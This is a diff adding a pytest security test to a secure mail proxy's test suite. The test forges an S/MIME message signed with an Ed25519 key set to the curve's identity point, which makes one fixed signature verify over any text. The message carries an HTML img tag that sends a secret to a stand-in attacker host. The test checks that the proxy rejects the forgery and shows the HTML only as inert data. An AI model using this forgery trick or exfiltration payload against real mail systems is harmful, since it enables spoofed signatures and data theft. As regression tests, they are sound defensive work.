@@ -12,11 +12,13 @@ from datetime import timedelta
 
 import pytest
 from cryptography import x509
+from cryptography.hazmat.primitives import hashes
+from cryptography.hazmat.primitives.asymmetric import ed25519
 from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID, ObjectIdentifier
 
 from keystore.model import SignatureState
 from secmailproxy.model import DecryptionState, Verdict
-from tests.fixtures import forge
+from tests.fixtures import cms, forge
 from tests.fixtures.desk import ALICE, BOB, EVE, TEXT, message
 from tests.fixtures.forge import BLOCK, SIGNED_DATA, Signer, sent_along, signed_data, tlv
 from tests.fixtures.forging_desk import ForgingDesk, forging_desk
@@ -248,3 +250,34 @@ def test_status_lines_in_a_file_name(make_keystore: KeystoreFactory, gnupg_home,
         assert opened.octets == text
         assert not [one for one in opened.signatures if one.state is SignatureState.GOOD]
         assert not opened.signatures
+
+
+IDENTITY = b"\x01" + bytes(31)
+"""The neutral point of edwards25519: with it for a key, itself and zero are a signature over any text."""
+
+
+def test_a_key_whose_signature_fits_any_text(forging_desk: ForgingDesk) -> None:
+    """MIME-06: who cannot read a text could sign it so, and have its HTML shown."""
+    key = ed25519.Ed25519PublicKey.from_public_bytes(IDENTITY)
+    key.verify(IDENTITY + bytes(32), b"whatever there is")
+    by = private_key("p256", 80)
+    made = (
+        x509.CertificateBuilder(name("Nobody"), name("Nobody"), key, 80)
+        .not_valid_before(NOW - DAY)
+        .not_valid_after(NOW + DAY)
+        .sign(by, hashes.SHA256())
+    )
+    signing = cms.Signing(
+        signer=Issued(made, by),
+        attributes=None,
+        digest="sha512",
+        algorithm=cms.sequence(cms.oid(cms.BY_ED25519)),
+        signature=IDENTITY + bytes(32),
+    )
+    html = b"Content-Type: text/html\r\n\r\n<img src='http://eve.example.net/?The secret.'>\r\n"
+    der = cms.signed_data(signing.info, certificates=[Issued(made, by).der], content=html)
+    read = forging_desk.read(message(forging_desk.encrypt(forge.pkcs7_mime(der, b"signed-data"))))
+    assert not read.summary.authenticated
+    assert read.presented is not None
+    assert email.message_from_bytes(read.presented).get_content_type() == "application/octet-stream"
+    assert read.summary.verdict is not Verdict.VALID
